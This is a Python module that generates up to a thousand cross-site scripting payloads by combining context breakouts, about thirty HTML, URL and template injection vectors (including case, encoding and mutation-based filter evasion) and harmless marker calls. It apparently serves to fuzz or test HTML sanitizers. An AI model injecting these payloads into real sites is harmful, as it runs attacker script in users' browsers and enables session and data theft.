"""A thousand ways to make a page run what somebody wrote: markup, attributes, addresses, templates, disguises."""

from __future__ import annotations

from itertools import islice, product

CALL = "window.__ran=1"
CALLS = (CALL, "alert`1`", "top['al'+'ert'](1)", "eval(atob('d2luZG93Ll9fcmFuPTE='))")
BREAKOUTS = ("", '"', "'", '">', "'>", "</textarea>", "</script>", "-->", "]]>", "</title>", "</style>", "\\", "}}")
MARKUP = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src=javascript:{call}>",
    "<a href=javascript:{call} autofocus>x</a>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}>",
    "<body onpageshow={call}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<object data='data:text/html,<script>{call}</script>'>",
    "<base href=javascript:{call}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<form><button formaction=javascript:{call}>x",
    "<style>@import 'javascript:{call}'</style>",
    "<link rel=stylesheet href=javascript:{call}>",
    "<sCrIpT/x>{call}</sCrIpT >",
    "<img src=x onerror\n=\n{call}>",
    "＜script＞{call}＜/script＞",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\\u003cscript\\u003e{call}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{% print({call}) %}}",
    "${{{call}}}",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
)


def payloads(most: int = 1000) -> list[str]:
    """So many different ones."""
    made = (breakout + markup.format(call=call) for call, breakout, markup in product(CALLS, BREAKOUTS, MARKUP))
    return list(islice(dict.fromkeys(made), most))
